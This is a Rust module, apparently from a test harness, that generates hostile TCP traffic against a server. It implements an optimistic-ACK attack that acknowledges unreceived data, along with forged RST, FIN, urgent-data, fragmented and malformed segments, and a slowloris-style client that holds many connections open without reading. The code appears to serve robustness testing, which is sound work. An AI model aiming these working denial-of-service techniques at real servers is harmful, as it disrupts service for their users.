//! A client behind a slow link that wants more than its share. It acknowledges what it has not received, sends nonsense
//! on its own connections, and opens many connections that it does not read.

use std::io::{Read, Write};
use std::net::{IpAddr, SocketAddr, SocketAddrV4, TcpStream};
use std::os::fd::OwnedFd;
use std::sync::atomic::Ordering;
use std::time::{Duration, Instant};

use anyhow::{Context, Result};
use rustix::net::{AddressFamily, SocketType, sockopt};

use super::Hostile;
use super::forge::{Forged, PSH, Sender, URG, sack};
use super::wiretap::Wiretap;
use crate::host::Host;
use crate::http::get_request;
use crate::random::Random;
use crate::segment::flag::{ACK, FIN, RST};

/// Longest time that a connection is used. Then a new one replaces it, because the forged segments may have made it
/// hang.
const LIFE: Duration = Duration::from_secs(4);
/// Pause between two forged segments on a connection.
const PAUSE: Duration = Duration::from_millis(2);
/// Number of connections on which the client reads nothing, and the time for which it keeps them.
const UNREAD: usize = 60;
const UNREAD_LIFE: Duration = Duration::from_secs(8);
const RECEIVE_BUFFER: usize = 16 << 10;

/// Addresses and sequence numbers of a connection, as its client knows them.
#[derive(Debug, Clone, Copy)]
struct Known {
    client: SocketAddrV4,
    server: SocketAddrV4,
    /// Next sequence number of the server, as far as its segments have arrived.
    theirs: u32,
    /// Next sequence number of the client, as far as the server has acknowledged it.
    own: u32,
}

/// Asks for `path` again and again, and acknowledges bytes that have not arrived, until the attack is over.
pub(super) fn ack_ahead(
    host: &Host,
    server: SocketAddr,
    path: &str,
    mut random: Random,
    hostile: &Hostile,
) -> Result<()> {
    let (sender, mut tap) = (Sender::of(host)?, Wiretap::on(host)?);
    while !hostile.over.load(Ordering::Relaxed) {
        let Ok(stream) = host.run(|| TcpStream::connect_timeout(&server, LIFE))? else { continue };
        stream.set_read_timeout(Some(Duration::from_millis(1)))?;
        let mut reader = stream.try_clone()?;
        (&stream).write_all(get_request(server, path, &[]).as_bytes()).context("starting the greedy client")?;
        let (begin, mut next, mut known) = (Instant::now(), Instant::now(), None);
        let (local, mut buffer) = (stream.local_addr()?, vec![0; 64 << 10]);
        // On half of the connections the client only acknowledges bytes that have not arrived. On the others it also
        // sends all kinds of nonsense.
        let honest_numbers = random.below(2) == 0;
        while begin.elapsed() < LIFE && !hostile.over.load(Ordering::Relaxed) {
            if let Some(segment) = tap.next()?
                && segment.destination == local
                && let (IpAddr::V4(client), IpAddr::V4(from)) = (local.ip(), server.ip())
            {
                let theirs = segment.sequence.wrapping_add(segment.sequence_length());
                let (client, server) =
                    (SocketAddrV4::new(client, local.port()), SocketAddrV4::new(from, server.port()));
                known = Some(Known { client, server, theirs, own: segment.acknowledgment });
            }
            // The kernel receives the real data, and acknowledges it honestly.
            if matches!(reader.read(&mut buffer), Ok(0)) {
                break;
            }
            if let Some(known) = known.filter(|_| Instant::now() >= next) {
                next = Instant::now() + PAUSE;
                for packet in ahead(known, honest_numbers, &mut random) {
                    sender.send(&packet)?;
                    hostile.packets.fetch_add(1, Ordering::Relaxed);
                }
            }
        }
    }
    Ok(())
}

/// Forged segments of the client on its own connection. With `only_ahead`, the segments only acknowledge bytes that
/// have not arrived. Otherwise some segments are other nonsense.
fn ahead(known: Known, only_ahead: bool, random: &mut Random) -> Vec<Vec<u8>> {
    let mut forged = Forged::new(known.client, known.server, ACK);
    let jump = 1 << (10 + random.below(16));
    (forged.sequence, forged.ack) = (known.own, known.theirs.wrapping_add(random.next() as u32 % jump));
    match if only_ahead { 0 } else { random.below(10) } {
        0..4 => {}
        4 => forged.options = sack(&[(forged.ack, forged.ack.wrapping_add(2896))]),
        5 => forged.window = 0,
        6 => (forged.flags, forged.sequence) = (RST, known.own.wrapping_add(random.next() as u32 % (1 << 16))),
        7 => (forged.flags, forged.data) = (ACK | URG | PSH, vec![b'x'; 1 + random.below(900)]),
        8 => return forged.fragments(random.next() as u16, random.below(2) == 0).to_vec(),
        _ if random.below(20) == 0 => forged.flags = FIN | ACK,
        _ => return vec![forged.packet(&[7, 7, 4, 0, 0, 0, 0, 0])],
    }
    vec![forged.packet(&[])]
}

/// Opens connections, asks for `path` and reads nothing, again and again, until the attack is over.
pub(super) fn read_nothing(host: &Host, server: SocketAddr, path: &str, hostile: &Hostile) -> Result<()> {
    while !hostile.over.load(Ordering::Relaxed) {
        let open = || -> Result<Vec<OwnedFd>> { (0..UNREAD).map(|_| unread(server, path)).collect() };
        // If one of the connections cannot be made, none is held, and the next attempt comes after UNREAD_LIFE.
        let held = host.run(open)?.unwrap_or_default();
        let begin = Instant::now();
        while begin.elapsed() < UNREAD_LIFE && !hostile.over.load(Ordering::Relaxed) {
            std::thread::sleep(Duration::from_millis(100));
        }
        drop(held);
    }
    Ok(())
}

fn unread(server: SocketAddr, path: &str) -> Result<OwnedFd> {
    let socket = rustix::net::socket(AddressFamily::INET, SocketType::STREAM, None)?;
    sockopt::set_socket_recv_buffer_size(&socket, RECEIVE_BUFFER)?;
    rustix::net::connect(&socket, &server)?;
    rustix::net::send(&socket, get_request(server, path, &[]).as_bytes(), rustix::net::SendFlags::NOSIGNAL)?;
    Ok(socket)
}
